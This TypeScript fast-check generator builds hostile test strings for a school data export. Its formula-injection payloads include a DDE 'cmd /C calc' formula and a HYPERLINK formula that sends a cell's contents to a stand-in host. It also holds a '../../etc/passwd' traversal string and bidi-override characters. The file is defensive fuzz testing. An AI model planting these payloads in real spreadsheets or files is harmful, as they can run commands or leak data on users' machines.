import fc from '../../fast-check.ts';

/*
 * Texts that somebody could put into a cell of a page, a name, or a file that the school loads, in the hope that a spreadsheet
 * works them out, a parser trips over them, or a reader sees something else than what is there.
 */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://a.example/?"&A1;"klik")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2',
  '@SUM(1;1)',
  '=WEBSERVICE("http://a.example")',
  '\uff1d1+1',
  '\uff0b1+1',
  '=1+1;=2+2',
  '{=1+1}',
];
/** What a spreadsheet may drop before it looks at what comes next. */
const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '"',
  "'",
  '\u0000',
  '\u001f',
  '\u00a0',
  '\u00ad',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2028',
  '\u2060',
  '\ufeff',
  '\u0007',
  '\u0008',
  ';',
  ',',
  '|',
];
const PIECES = [
  ...[']]>', '<![CDATA[', '<!--', '-->', '<b>', '</toets>', '&amp;', '&#0;', '&', '<', '>', '<?xml?>', '<!DOCTYPE a>'],
  ...['"', '""', '"""', "'", "''", ';', ',', '|', '\t', '\r', '\n', '\r\n', '\v', '\f', '\\', '\\"', '`', '$(x)', '%s'],
  ...['\u0000', '\u0001', '\u0007', '\u0008', '\u001b[2J', '\u001f', '\u007f', '\u0080', '\u0085', '\u009f'],
  ...['\ud800', '\udc00', '\ud83d', '\ude00\ud83d', '\ufffe', '\uffff', '\ufffd', '\u{10ffff}', '😀', '𝕏'],
  ...['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2069', '\u200b', '\u200d', '\u200e', '\u200f', '\u061c'],
  ...['\u2028', '\u2029', '\u00a0', '\u00ad', '\ufeff', 'e\u0301', 'Ł', '数', 'ﬁ', '€', '\u0152', 'ÿ', 'ß'],
  ...['__proto__', 'constructor', 'null', 'undefined', 'NaN', '1e999', '../../etc/passwd', 'CON', 'https://a.example'],
];
/** Words that are in no other text of a delivery, so that whatever is written of them is seen. */
const WORDS = ['Zwartkop', 'Rekenen', 'Cito', '3.0', 'M5', '12', 'één', "'s-Gravenhage", 'x'];

const piece = fc.oneof(
  { arbitrary: fc.constantFrom(...PIECES), weight: 4 },
  { arbitrary: fc.constantFrom(...WORDS), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 4 }), weight: 1 },
);
const mixture = fc.array(piece, { minLength: 1, maxLength: 5 }).map((parts) => parts.join(''));
const formula = fc
  .tuple(fc.constantFrom(...BEFORE), fc.constantFrom(...BEFORE), fc.constantFrom(...FORMULAS), fc.boolean())
  .map(([one, two, what, late]) => `${late ? 'Cito' : ''}${one}${two}${what}`);
const long = fc
  .tuple(mixture, fc.integer({ min: 100, max: 10_000 }))
  .map(([text, length]) => text.repeat(Math.ceil(length / text.length)).slice(0, length));
/** Nearly what its column may hold, so that some do get into a file. */
const nearly = fc
  .tuple(fc.constantFrom(...WORDS, 'Begrijpend lezen', "Rekenen & 'meer'", 'Lezen; deel (2), A'), piece)
  .map(([word, more]) => `${word}${more}`);
const harmless = fc.constantFrom(
  "Rekenen & 'meer'",
  'Lezen; deel (2), A/B',
  'één – ’t',
  'x'.repeat(120),
  '1S/2F',
  '3,5',
  '-4',
  '103.25',
  '<103',
  '30*',
);

export const hostileText = fc.oneof(
  { arbitrary: formula, weight: 4 },
  { arbitrary: mixture, weight: 4 },
  { arbitrary: nearly, weight: 3 },
  { arbitrary: long, weight: 1 },
  { arbitrary: harmless, weight: 1 },
);

/** What no reader of a file could get: half a pair of UTF-16 is no character. */
export const isWellFormed = (text: string): boolean => !/\p{Surrogate}/u.test(text);
